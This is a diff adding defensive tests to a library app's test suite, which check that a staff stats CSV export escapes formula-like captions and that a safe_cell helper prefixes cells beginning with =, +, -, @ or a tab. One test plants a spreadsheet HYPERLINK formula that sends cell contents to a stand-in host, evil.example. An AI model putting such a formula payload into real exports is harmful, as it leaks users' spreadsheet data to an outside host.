@@ -347,3 +347,49 @@ def test_many_addresses_together_slow_an_account_down(sqlite_config):
     waits = [throttle.reserve("olga@example.fi", f"10.0.0.{i // 3}") for i in range(15)]
     assert waits[:12] == [0] * 12 and all(w > 0 for w in waits[12:])
     assert throttle.reserve("someone.else@example.fi", "10.0.0.1") == 0
+
+
+# -- Katso's stats.csv: curators' captions are text, never formulas --------------------------
+def test_katso_stats_csv_writes_formula_like_captions_as_text(tmp_path):
+    import csv
+    import io
+
+    from sqlalchemy import select
+
+    from services.common.config import Config
+    from services.common.db import Database
+    from services.library.content import load_seed
+    from services.library.orm import LibraryCard
+    from services.library.repository import LibraryStore
+
+    config = Config.from_env(database_url=f"sqlite:///{tmp_path / 'k.db'}", redis_url=None,
+                             var_dir=tmp_path, secret_key="test-secret", testing=True)
+    db = Database(config.database_url)
+    db.upgrade()
+    LibraryStore(db).seed(load_seed())
+    create_staff(db, "curator@example.fi", "Curator", ["curator"], STAFF_PASSWORD)
+    evil = '=HYPERLINK("https://evil.example/?d="&A1,"Click")'
+    with db.session() as s:
+        card = s.scalar(select(LibraryCard).where(LibraryCard.slug == "candle"))
+        card.caption = {**card.caption, "en": evil, "fi": evil}
+    app = suite(config)
+    app.test_client().get("/katso/fi/cards/candle")
+    client = app.test_client()
+    client.environ_base["HTTP_ACCEPT_LANGUAGE"] = "en"
+    page = client.get("/authoring/sign-in")
+    client.post("/authoring/sign-in", data={"email": "curator@example.fi", "password": STAFF_PASSWORD,
+                                            "_csrf": csrf(page.text)})
+    body = client.get("/katso/staff/stats.csv").data.decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(body)))
+    candle = next(r for r in rows if r[0] == "card:candle")
+    assert candle[2] == "'" + evil and candle[3] == "1"
+    assert not any(cell.lstrip().startswith(("=", "+", "-", "@")) for row in rows for cell in row)
+
+
+@pytest.mark.parametrize("cell,expected", [
+    ("=1+1", "'=1+1"), ("  =cmd", "'  =cmd"), ("+358", "'+358"), ("-x", "'-x"), ("@SUM(A1)", "'@SUM(A1)"),
+    ("\tTab", "'\tTab"), ("Kynttilä", "Kynttilä"), (3, 3), (None, "")])
+def test_spreadsheet_cells(cell, expected):
+    from services.common.spreadsheet import safe_cell
+
+    assert safe_cell(cell) == expected
